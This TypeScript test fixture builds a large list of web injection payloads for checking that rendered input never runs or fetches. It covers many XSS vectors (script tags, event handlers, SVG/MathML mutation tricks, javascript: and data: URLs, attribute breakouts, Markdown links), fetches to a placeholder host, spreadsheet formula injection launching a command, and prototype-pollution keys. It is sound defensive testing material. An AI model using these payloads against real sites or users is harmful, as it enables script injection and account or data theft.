/** What each payload does where it runs: a test asks for this property of the window afterwards. */
export const PAYLOAD_MARK = 'payloadRan';

/** Where payloads would fetch from: a test sees that nothing asks for it. The name can belong to nobody. */
export const PAYLOAD_HOST = 'payload.invalid';

const RUN = `globalThis.${PAYLOAD_MARK}=1`;
const AT = `https://${PAYLOAD_HOST}`;
const CODED = [...RUN].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const HEXED = [...RUN].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const BASE64 = btoa(`<script>${RUN}</script>`);

/** Scripts as such, whole, broken, hidden in another case or in another language's parser. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script >${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<script src="${AT}/a.js"></script>`,
  `<script src=//${PAYLOAD_HOST}/a.js></script>`,
  `<script type="module">${RUN}</script>`,
  `<script>${RUN}//`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `--!><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `\u0000<script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `\ufeff<script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const LOADING = [
  'img',
  'video',
  'audio',
  'input type=image',
  'embed',
  'object',
  'link rel=stylesheet href=x',
];

/** Elements with a handler that runs without anybody's help. */
const HANDLERS = [
  ...LOADING.map((tag) => `<${tag} src=x onerror="${RUN}">`),
  ...LOADING.map((tag) => `<${tag} src=data: onload=${RUN}>`),
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror='${RUN}'>`,
  `<img src=x onerror=\`${RUN}\`>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\nsrc=x\nonerror\n=\n"${RUN}">`,
  `<img\fsrc=x\tonerror=${RUN}>`,
  `<img src=x OnErRoR="${RUN}">`,
  `<img src=x onerror="${CODED}">`,
  `<img src=x onerror="${HEXED}">`,
  `<img src=x:x onerror="javascript:${RUN}">`,
  `<img """><script>${RUN}</script>">`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<image src=x onerror="${RUN}">`,
  `<picture><source srcset=x><img onerror="${RUN}" src=x></picture>`,
  `<svg onload="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}"></script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><image href=x onerror="${RUN}"/></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><desc><script>${RUN}</script></desc></svg>`,
  `<svg><title><style><img title="</style><img src=x onerror=${RUN}>"></title></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<math><mtext><table><mglyph><style><img title="--></style><img src=x onerror=${RUN}>">`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<table><td><style><img src=x onerror="${RUN}"></style></table>`,
  `<select><template><img src=x onerror="${RUN}"></template></select>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<body onload="${RUN}">`,
  `<body onpageshow="${RUN}">`,
  `<body onhashchange="${RUN}"><a href="#x">x</a>`,
  `<body onresize="${RUN}">`,
  `<iframe onload="${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${PAYLOAD_MARK}=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${PAYLOAD_MARK}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${PAYLOAD_MARK}=1"></iframe>`,
  `<frameset onload="${RUN}"><frame src=x></frameset>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html;base64,${BASE64}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<textarea autofocus onfocus="${RUN}"></textarea>`,
  `<button autofocus onfocus="${RUN}">x</button>`,
  `<p tabindex=1 autofocus onfocus="${RUN}">x</p>`,
  `<p contenteditable autofocus onfocus="${RUN}">x</p>`,
  `<video><source onerror="${RUN}"></video>`,
  `<video poster="${AT}/a.png"></video>`,
  `<audio src onloadstart="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
  `<b style="transition:color 1s" ontransitionend="${RUN}">x</b>`,
  `<x onclick="${RUN}" onpointerenter="${RUN}">x</x>`,
  `<dialog open oncancel="${RUN}" onclose="${RUN}">x</dialog>`,
];

const QUOTES = ['"', "'", '`', '">', "'>", '" ', '\\"', "\\'", '&quot;', '&#39;', '"/>', '</a>'];

/** What breaks out of an attribute or of a string of a script. */
const BREAKOUTS = [
  ...QUOTES.map((quote) => `${quote}<img src=x onerror=${RUN}>`),
  ...QUOTES.map((quote) => `${quote} onmouseover=${RUN} autofocus onfocus=${RUN} x=${quote}`),
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\';${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `\u2028${RUN}`,
  `*/${RUN}/*`,
];

/** Addresses that run. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg onload='${RUN}'>*/`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${BASE64}`,
  `blob:${AT}/x`,
  `view-source:javascript:${RUN}`,
  `//${PAYLOAD_HOST}/x`,
  `https://${PAYLOAD_HOST}/"onmouseover="${RUN}`,
];

/** The same by way of elements. */
const LINKS = [
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<base href="${AT}/"><a href="x">x</a>`,
  `<base href="javascript:${RUN}//"><a href="#">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${AT}/">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<a href="x" ping="${AT}/">x</a>`,
  `<area href="javascript:${RUN}">`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
];

/** What fetches something without a script. */
const FETCHES = [
  `<img src="${AT}/a.png">`,
  `<img srcset="${AT}/a.png 1x">`,
  `<img src=x style="background:url(${AT}/a.png)">`,
  `<link rel="stylesheet" href="${AT}/a.css">`,
  `<link rel="preload" as="image" href="${AT}/a.png">`,
  `<link rel="dns-prefetch" href="//${PAYLOAD_HOST}">`,
  `<style>@import "${AT}/a.css";</style>`,
  `<style>*{background:url(${AT}/a.png)}</style>`,
  `<p style="background-image:url('${AT}/a.png')">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`,
  `<table background="${AT}/a.png"><tr><td>x</table>`,
  `<iframe src="${AT}/"></iframe>`,
  `<audio src="${AT}/a.mp3" autoplay></audio>`,
  `<track src="${AT}/a.vtt">`,
  `<svg><image href="${AT}/a.png"/></svg>`,
  `<svg><feImage href="${AT}/a.png"/></svg>`,
];

/** The same in Markdown. */
const MARKDOWN = [
  ...ADDRESSES.map((address) => `[x](${address})`),
  `[x](<javascript:${RUN}>)`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `<javascript:${RUN}>`,
  `![x](${AT}/a.png)`,
  `![x](x"onerror="${RUN})`,
  `![x" onerror="${RUN}](x)`,
  `[x](${AT} "x" onmouseover="${RUN}")`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `\n\n<div>\n<img src=x onerror=${RUN}>\n</div>\n\n`,
  `* <img src=x onerror=${RUN}>`,
  `| x |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `---\nx: !!js/function '${RUN}'\n---`,
];

/** What a table, a front matter or a reader of JSON may take for more than text. */
const OTHER_FORMATS = [
  `=HYPERLINK("${AT}/","x")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3`,
  `\t=1+1`,
  `\r=1+1`,
  `＝1+1`,
  `"=1+1"`,
  `x";=1+1;"`,
  `x\n---\nx: 1`,
  `{"__proto__":{"${PAYLOAD_MARK}":1}}`,
  `__proto__`,
  `constructor`,
];

/** Texts that somebody may put into a page, a note or a file so that they run, or fetch, where they are shown. */
export const INJECTION_PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...BREAKOUTS,
  ...ADDRESSES,
  ...LINKS,
  ...FETCHES,
  ...MARKDOWN,
  ...OTHER_FORMATS,
];
